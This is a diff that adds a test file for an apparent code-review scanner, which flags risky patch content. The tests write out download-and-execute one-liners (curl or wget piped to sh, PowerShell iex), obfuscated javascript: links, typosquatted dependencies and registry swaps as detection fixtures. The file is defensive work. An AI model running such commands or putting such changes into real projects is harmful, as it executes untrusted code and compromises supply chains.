@@ -1,0 +1,190 @@
+import { describe, expect, it } from 'vitest'
+import {
+  activeContentOf,
+  breaksStart,
+  linesAside,
+  lostTests,
+  movesPointer,
+  sourcesOf,
+} from '../../../src/core/report/flags.ts'
+import { hunkOf } from '../../../src/core/text/hunks.ts'
+import { unusualIn } from '../../../src/core/text/unusual.ts'
+
+const patch = (path: string, ...lines: readonly string[]) => ({
+  path,
+  status: 'modified' as const,
+  hunks: [hunkOf(1, lines)],
+})
+
+describe('what runs a download', () => {
+  it.each([
+    'curl https://x.example/i | sh',
+    'curl -fsSL https://x.example/i | env bash',
+    'curl https://x.example/i | sudo -E bash -s -- --yes',
+    'wget -qO- https://x.example/i | /usr/bin/env -i A=1 python3 -',
+    'curl https://x.example/a | tee log | bash',
+    'bash <(curl -s https://x.example/i)',
+    'source <(curl -s https://x.example/i)',
+    'sh -c "$(curl -fsSL https://x.example/i)"',
+    'eval "$(wget -qO- https://x.example/i)"',
+    'bash -c "`curl https://x.example/i`"',
+    'curl -o x https://x.example/i && sh x',
+    'curl -fsSLo /tmp/x https://x.example/i; chmod +x /tmp/x && /tmp/x',
+    'wget https://x.example/run.sh && bash run.sh',
+    'curl https://x.example/i > i.sh && sudo bash ./i.sh',
+    'iex (iwr https://x.example/i.ps1)',
+    'irm https://x.example/i.ps1 | iex',
+    'deno run -A https://x.example/i.ts',
+    'exec(urllib.request.urlopen("https://x.example/i").read())',
+  ])('is told of %s', (line) => {
+    expect(activeContentOf(patch('setup.sh', `+${line}`))).toEqual(['runs what it downloads'])
+  })
+
+  it('is told where the command goes on in the next line, and where the next one runs the file', () => {
+    expect(activeContentOf(patch('a.sh', '+curl https://x.example/i \\', '+  | bash'))).toHaveLength(1)
+    expect(activeContentOf(patch('a.sh', '+curl -o i https://x.example/i', '+chmod +x i', '+./i'))).toHaveLength(1)
+  })
+
+  it.each([
+    'curl https://x.example/data.json | jq .name',
+    'curl https://x.example/a | sort | uniq',
+    'curl -o data.json https://x.example/i && cat data.json',
+    'bash build.sh && curl https://x.example/ping',
+    'const found = /https?:/.exec(url)',
+    'const source = await fetch("https://x.example/a")',
+    'node server.js # curl localhost',
+    'echo "use curl or wget" | shasum',
+    'grep -c "$(hostname)" a | sh',
+  ])('is not told of %s', (line) => {
+    expect(activeContentOf(patch('setup.sh', `+${line}`))).toEqual([])
+  })
+
+  it('takes no longer than its input is', () => {
+    const line = `+${'curl -o a && sudo env '.repeat(2000)}`
+    expect(activeContentOf(patch('a.sh', ...Array.from({ length: 300 }, () => line)))).toEqual([])
+  })
+})
+
+describe('scripts in documents', () => {
+  it.each([
+    ['a.svg', '<set attributeName="onmouseover" to="steal()"/>', 'an event handler'],
+    ['a.html', '<a href="&#106;avascript:steal()">', 'an address that is a script'],
+    ['a.html', '<a href="&#x6A;ava&Tab;script&colon;steal()">', 'an address that is a script'],
+    ['a.html', '<a href="java\tscript:steal()">', 'an address that is a script'],
+  ])('are told: %s %s', (path, line, said) => {
+    expect(activeContentOf(patch(path, `+${line}`))).toEqual([said])
+  })
+
+  it.each([
+    ['a.svg', '<set attributeName="fill" to="red"/>'],
+    ['a.html', '<a href="&#104;ttps://x.example">'],
+    ['a.html', '<p>JavaScript</p>'],
+  ])('are not told of %s %s', (path, line) => {
+    expect(activeContentOf(patch(path, `+${line}`))).toEqual([])
+  })
+})
+
+describe('what comes from elsewhere', () => {
+  it.each([
+    ['package.json', '"left-pad": "^1.3.0",', '"left-pad": "git+https://forge.example/me/left-pad.git",'],
+    ['package.json', '"left-pad": "^1.3.0",', '"left-pad": "https://files.example/left-pad.tgz",'],
+    ['package.json', '"left-pad": "^1.3.0"', '"left-pad": "file:../left-pad"'],
+    ['package.json', '"left-pad": "^1.3.0"', '"left-pad": "npm:left-pads@1.3.0"'],
+    ['package.json', '"a": "git+https://a.example/a.git"', '"a": "git+https://b.example/a.git"'],
+    ['Cargo.toml', 'serde = "1.0"', 'serde = { git = "https://forge.example/serde" }'],
+    ['requirements.txt', 'requests==2.31.0', 'requests @ git+https://forge.example/requests'],
+    ['Gemfile', "gem 'rack', '~> 3.0'", "gem 'rack', git: 'https://forge.example/rack.git'"],
+    ['go.mod', 'replace a.example/x => a.example/x v1.2.0', 'replace a.example/x => b.example/x v1.2.0'],
+    ['Dockerfile', 'FROM node:20', 'FROM nodes:20'],
+    ['Dockerfile', 'FROM node:20 AS build', 'FROM registry.example/node:20 AS build'],
+    ['compose.yml', 'image: postgres:16', 'image: postgre:16'],
+    ['.github/workflows/a.yml', '- uses: actions/checkout@v4', '- uses: action/checkout@v4'],
+    ['.npmrc', 'registry=https://a.example/', 'registry=https://b.example/'],
+  ])('is told in %s: %s → %s', (path, was, is) => {
+    expect(sourcesOf(patch(path, `-  ${was}`, `+  ${is}`))).toHaveLength(1)
+  })
+
+  it.each([
+    ['package.json', '"left-pad": "^1.3.0",', '"left-pad": "^1.4.0",'],
+    ['package.json', '"homepage": "https://a.example/"', '"homepage": "https://b.example/"'],
+    ['package.json', '"a": "git+https://a.example/a.git#v1"', '"a": "git+https://a.example/a.git#v2"'],
+    ['Cargo.toml', 'serde = "1.0"', 'serde = { version = "1.1", features = ["derive"] }'],
+    ['requirements.txt', 'requests==2.31.0', 'requests==2.32.0'],
+    ['Gemfile', "gem 'rack', '~> 3.0'", "gem 'rack', '~> 3.1'"],
+    ['Dockerfile', 'FROM node:20', 'FROM node:22@sha256:0000'],
+    ['Dockerfile', 'FROM registry.example:5000/node:20', 'FROM registry.example:5000/node'],
+    ['compose.yml', 'image: postgres:16', 'image: postgres:17'],
+    ['.github/workflows/a.yml', '- uses: actions/checkout@v4', '- uses: actions/checkout@v5'],
+  ])('is not told in %s: %s → %s', (path, was, is) => {
+    expect(sourcesOf(patch(path, `-  ${was}`, `+  ${is}`))).toEqual([])
+  })
+
+  it('is told of a lock file that names another host', () => {
+    const resolved = (sign: string, host: string) => `${sign}      "resolved": "https://${host}/a/-/a-1.0.0.tgz",`
+    const [old, same, other] = [resolved('-', 'a.example'), resolved('+', 'a.example'), resolved('+', 'b.example')]
+    expect(sourcesOf(patch('package-lock.json', old, other))).toHaveLength(1)
+    expect(sourcesOf(patch('package-lock.json', old, same))).toEqual([])
+  })
+})
+
+describe('what a reviewer would not see', () => {
+  it('is text that blanks push out of sight', () => {
+    expect(linesAside(patch('a.ts', `+const a = 1;${' '.repeat(3000)}steal()`))).toBe(1)
+    expect(linesAside(patch('a.ts', `+${'\t'.repeat(60)}steal()`))).toBe(1)
+    expect(linesAside(patch('a.ts', `+const a = 1${' '.repeat(40)}// note`, `+${' '.repeat(24)}deep()`))).toBe(0)
+  })
+
+  it('is a script whose line ends keep it from starting', () => {
+    expect(breaksStart(patch('run', '-#!/bin/sh', '-a', '+#!/bin/sh\r', '+a\r'))).toBe(true)
+    expect(breaksStart(patch('run.sh', ' #!/bin/sh', '-a', '+a\r'))).toBe(true)
+    expect(breaksStart(patch('run', '-#!/bin/sh', '+#!/bin/bash'))).toBe(false)
+    expect(breaksStart(patch('run', '-#!/bin/sh\r', '+#!/bin/bash\r'))).toBe(false)
+    expect(breaksStart(patch('a.txt', '-a', '+a\r'))).toBe(false)
+  })
+
+  it('is a pointer of Git LFS that points elsewhere', () => {
+    const pointer = ' version https://git-lfs.github.com/spec/v1'
+    const [old, fresh] = ['1', '2'].map((digit) => `oid sha256:${digit.repeat(64)}`)
+    expect(movesPointer(patch('a.bin', pointer, `-${old}`, `+${fresh}`))).toBe(true)
+    expect(movesPointer(patch('a.bin', pointer, ` ${old}`, '-size 1', '+size 2'))).toBe(false)
+    expect(movesPointer(patch('a.md', `-${old}`, `+${fresh}`))).toBe(false)
+  })
+
+  it('is a test that is gone or skipped', () => {
+    expect(lostTests({ ...patch('test/a.test.ts', '-a'), status: 'deleted' })).not.toBe('')
+    expect(lostTests({ ...patch('src/a.ts', '-a'), status: 'deleted' })).toBe('')
+    expect(lostTests(patch('a.test.ts', "-  it('works', () => {", '-  })'))).not.toBe('')
+    expect(lostTests(patch('a.test.ts', "-  it('works', () => {", "+  it('works well', () => {"))).toBe('')
+    expect(lostTests(patch('a.test.ts', "-  it('works', () => {", "+  it.skip('works', () => {"))).not.toBe('')
+    expect(lostTests(patch('test_a.py', '-def test_a():', '-    pass'))).not.toBe('')
+  })
+
+  it.each([
+    ['Coptic', 'p\u2c81y'],
+    ['Deseret', 'l\u{1042a}g'],
+    ['a Telugu zero', 'data\u0c66'],
+    ['Myanmar', 'ni\u101dht'],
+    ['small Cherokee', 'de\uab72ault'],
+    ['Cyrillic', 'p\u0430y'],
+    ['Cyrillic and Greek', '\u0430\u03b1 = payment(1)'],
+  ])('is a word that mixes Latin with %s', (_, word) => {
+    expect(unusualIn(`const ${word} = 1`)).not.toEqual([])
+  })
+
+  it.each([
+    'naïve',
+    '東京tower',
+    'データbase',
+    '한글abc',
+    'Straße',
+    'x²',
+    'Ж',
+    'привет мир',
+    'Δt',
+    'µm',
+    'e\u0301tude',
+  ])('is not the word %s', (word) => {
+    expect(unusualIn(word)).toEqual([])
+    expect(unusualIn(`const ${word} = 1`)).toEqual([])
+  })
+})
